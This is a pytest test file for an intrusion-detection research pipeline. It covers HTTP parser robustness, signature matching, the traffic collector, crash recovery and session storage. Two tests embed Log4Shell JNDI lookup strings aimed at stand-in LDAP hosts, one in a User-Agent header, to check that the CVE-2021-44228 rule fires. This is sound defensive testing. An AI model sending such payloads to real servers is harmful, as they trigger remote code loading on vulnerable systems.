"""Failure-injection tests: the pipeline must be robust to malformed,
adversarial, and degenerate inputs at every layer — and, for the scan
pipeline, to worker death, chunk errors and mid-run kills
(:class:`TestScanRecovery`)."""

from datetime import timedelta

import pytest

from repro.cache import CheckpointStore
from repro.datasets.seed_cves import STUDY_WINDOW
from repro.exploits.rulegen import build_study_ruleset
from repro.net.http import parse_http_request
from repro.net.pcapstore import SessionStore
from repro.net.session import TcpSession
from repro.nids.engine import DetectionEngine, parallel_scan, scan_stream
from repro.telescope.collector import DscopeCollector
from repro.traffic.arrivals import ScanArrival
from repro.traffic.generator import TrafficConfig, TrafficGenerator
from repro.util.timeutil import utc

T0 = utc(2022, 1, 1)


def _session(payload, sid=0, port=80):
    return TcpSession(
        session_id=sid, start=T0, src_ip=1, src_port=1024,
        dst_ip=2, dst_port=port, payload=payload,
    )


MALFORMED_PAYLOADS = [
    b"",                                        # empty
    b"\x00" * 1024,                             # null flood
    b"GET",                                     # truncated request line
    b"GET / HTTP/1.1",                          # no header terminator
    b"GET / HTTP/1.1\r\nHost",                  # torn header
    b"\xff\xfe" + "GET / HTTP/1.1\r\n\r\n".encode("utf-16-le"),  # UTF-16
    b"A" * 100_000,                             # oversized
    "GET /ünïcödé HTTP/1.1\r\n\r\n".encode(),   # non-ascii URI
    b"POST / HTTP/1.1\r\nContent-Length: 99999\r\n\r\nshort",  # lying CL
    b"GET " + b"/" * 5000 + b" HTTP/1.1\r\n\r\n",  # absurd URI
    b"\r\n\r\n\r\n",                            # separators only
    b"HTTP/1.1 200 OK\r\n\r\n",                 # a response, not a request
]


class TestHttpParserRobustness:
    @pytest.mark.parametrize("payload", MALFORMED_PAYLOADS,
                             ids=range(len(MALFORMED_PAYLOADS)))
    def test_never_raises(self, payload):
        # Either parses to something or returns None; never throws.
        parse_http_request(payload)


class TestEngineRobustness:
    @pytest.fixture(scope="class")
    def engine(self):
        return DetectionEngine(build_study_ruleset())

    def test_malformed_payloads_scan_cleanly(self, engine):
        sessions = [
            _session(payload, sid=index)
            for index, payload in enumerate(MALFORMED_PAYLOADS)
        ]
        alerts = engine.scan(sessions)
        # Nothing malformed matches a CVE signature.
        assert alerts == []

    def test_anchor_in_wrong_buffer_does_not_match(self, engine):
        # A Log4Shell token in a *response-shaped* payload is not a request
        # and must not alert.
        payload = b"HTTP/1.1 200 OK\r\nX-V: ${jndi:ldap://x/a}\r\n\r\n"
        assert engine.ruleset.match_session(_session(payload)) is None

    def test_exploit_token_in_user_agent_matches_header_rule(self, engine):
        # Header-buffer rules see every non-cookie header, wherever the
        # scanner hides the token.
        payload = (
            b"GET / HTTP/1.1\r\nHost: h\r\n"
            b"User-Agent: ${jndi:ldap://1.2.3.4/a}\r\n\r\n"
        )
        alert = engine.ruleset.match_session(_session(payload))
        assert alert is not None
        assert alert.cve_id == "CVE-2021-44228"


class TestCollectorRobustness:
    def test_zero_payload_arrivals_become_sessions(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=1024, dst_port=80, payload=b"",
            )
            for i in range(5)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 5
        # And the engine skips them without alerting.
        assert DetectionEngine(build_study_ruleset()).scan(store) == []

    def test_identical_timestamps_accepted(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        when = STUDY_WINDOW.start + timedelta(hours=1)
        arrivals = [
            ScanArrival(timestamp=when, src_ip=i + 1, src_port=1024,
                        dst_port=80, payload=b"x")
            for i in range(10)
        ]
        store = collector.collect(arrivals)
        assert len(store) == 10

    def test_extreme_ports(self):
        collector = DscopeCollector(window=STUDY_WINDOW)
        arrivals = [
            ScanArrival(
                timestamp=STUDY_WINDOW.start + timedelta(minutes=i),
                src_ip=1, src_port=port, dst_port=port, payload=b"x",
            )
            for i, port in enumerate((0, 1, 65535))
        ]
        store = collector.collect(arrivals)
        assert len(store) == 3


class _Killed(Exception):
    """Stands in for a process killed mid-scan."""


class _StageMustNotRun:
    def __init__(self, *args, **kwargs):
        raise AssertionError("traffic generated despite a store checkpoint")


class TestScanRecovery:
    """A worker that dies or raises: the parent rescans the chunks left
    without a result, so the scan stays byte-identical to serial."""

    @pytest.fixture(scope="class")
    def world(self):
        """(ruleset, sessions, serial alerts, serial sessions scanned)."""
        generator = TrafficGenerator(
            TrafficConfig(seed=7, volume_scale=0.01, background_per_exploit=0.3)
        )
        store = DscopeCollector(window=STUDY_WINDOW).collect(generator.generate())
        ruleset = build_study_ruleset()
        sessions = list(store)
        alerts, scanned, _ = scan_stream(ruleset, sessions)
        assert alerts  # never vacuous
        return ruleset, sessions, alerts, scanned

    def _assert_recovered(self, world, outcome):
        _, _, serial_alerts, serial_scanned = world
        alerts, scanned, telemetry = outcome
        assert alerts == serial_alerts
        assert scanned == serial_scanned
        assert telemetry.recovered_chunks >= 1
        assert telemetry.fallback_serial == 0

    def test_worker_crash_recovers_identically(self, world, scan_fault):
        ruleset, sessions, *_ = world
        # os._exit in a worker breaks the whole pool: every chunk still in
        # flight is rescanned in the parent.
        scan_fault("worker_crash:1", workers=2)
        outcome = parallel_scan(ruleset, sessions, workers=2, threshold=0)
        self._assert_recovered(world, outcome)

    def test_chunk_error_recovers_identically(self, world, scan_fault):
        ruleset, sessions, *_ = world
        scan_fault("chunk_error:2", workers=2)
        outcome = parallel_scan(ruleset, sessions, workers=2, threshold=0)
        self._assert_recovered(world, outcome)
        # An exception implicates only its own chunk; the pool survives.
        assert outcome[2].recovered_chunks == 1

    def test_study_killed_mid_scan_resumes(self, monkeypatch, tmp_path):
        from repro.analysis.pipeline import StudyConfig, run_study
        from repro.cache import StudyCache, study_key
        from repro.scenarios import builtins

        config = StudyConfig(
            seed=7, volume_scale=0.01, background_per_exploit=0.3,
            background_nvd_count=500,
        )
        cache = StudyCache(root=tmp_path)
        checkpoints = CheckpointStore(root=tmp_path)

        def killed_scan(self, sessions):
            raise _Killed

        with monkeypatch.context() as patch:
            patch.setattr(DetectionEngine, "scan", killed_scan)
            with pytest.raises(_Killed):
                run_study(config, cache=cache, checkpoints=checkpoints)
        key = study_key(config)
        assert checkpoints.names(key) == ["store"]

        with monkeypatch.context() as patch:
            patch.setattr(builtins, "TrafficGenerator", _StageMustNotRun)
            resumed = run_study(config, cache=cache, checkpoints=checkpoints)
        # The store came from disk (the arrival stream is never
        # checkpointed: a store checkpoint makes it moot).
        assert resumed.telemetry.checkpoints == ["store"]
        assert not resumed.from_cache
        # Recovery state is published or deleted the moment the run
        # succeeds...
        assert cache.partials() == [] and cache.staging_dirs() == []
        # ...and the result is indistinguishable from an undisturbed run.
        plain = run_study(config, cache=False, checkpoints=False)
        assert resumed.alerts == plain.alerts
        assert list(resumed.store) == list(plain.store)
        assert resumed.collection_stats == plain.collection_stats
        assert resumed.ground_truth == plain.ground_truth


class TestStoreRobustness:
    def test_jsonl_load_skips_blank_lines(self, tmp_path):
        store = SessionStore()
        store.append(_session(b"x", sid=1))
        path = tmp_path / "a.jsonl"
        store.save(path)
        path.write_text(path.read_text() + "\n\n")
        assert len(SessionStore.load(path)) == 1

    def test_jsonl_garbage_raises(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text("this is not json\n")
        with pytest.raises(Exception):
            SessionStore.load(path)

    def test_between_on_empty_store(self):
        store = SessionStore()
        assert list(store.between(T0, T0 + timedelta(days=1))) == []
